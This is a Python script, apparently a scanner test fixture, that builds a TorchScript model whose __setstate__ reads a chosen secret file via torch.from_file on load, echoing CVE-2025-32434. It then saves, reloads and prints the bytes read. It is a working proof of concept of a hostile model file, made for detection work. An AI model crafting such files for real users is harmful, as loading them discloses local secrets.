"""A TorchScript module whose __setstate__ reads a file with torch.from_file (CVE-2025-32434's shape).

Usage: python script_from_file.py OUT.pt SECRET_FILE
Saves the module with torch.jit.save (and for the lite interpreter as OUT.pt + "l", its bytecode naming
aten::from_file), loads the first back with torch.jit.load (which runs __setstate__), and prints the bytes it read
as JSON: what torchwire's scan must call dangerous without running anything.
"""
import json
import sys
from typing import Tuple

import torch

out, secret = sys.argv[1], sys.argv[2]


class ReadsAtLoad(torch.nn.Module):
    def __init__(self, path: str):
        super().__init__()
        self.w = torch.zeros(1, dtype=torch.uint8)
        self.path = path

    @torch.jit.export
    def __getstate__(self) -> Tuple[torch.Tensor, bool, str]:
        return (self.w, self.training, self.path)

    @torch.jit.export
    def __setstate__(self, state: Tuple[torch.Tensor, bool, str]) -> None:
        self.path = state[2]
        self.w = torch.from_file(self.path, False, 6, dtype=torch.uint8)
        self.training = state[1]

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        return x


scripted = torch.jit.script(ReadsAtLoad(secret))
torch.jit.save(scripted, out)
scripted._save_for_lite_interpreter(out + "l")
loaded = torch.jit.load(out)
print(json.dumps({"read": bytes(loaded.w.tolist()).decode("latin1")}))
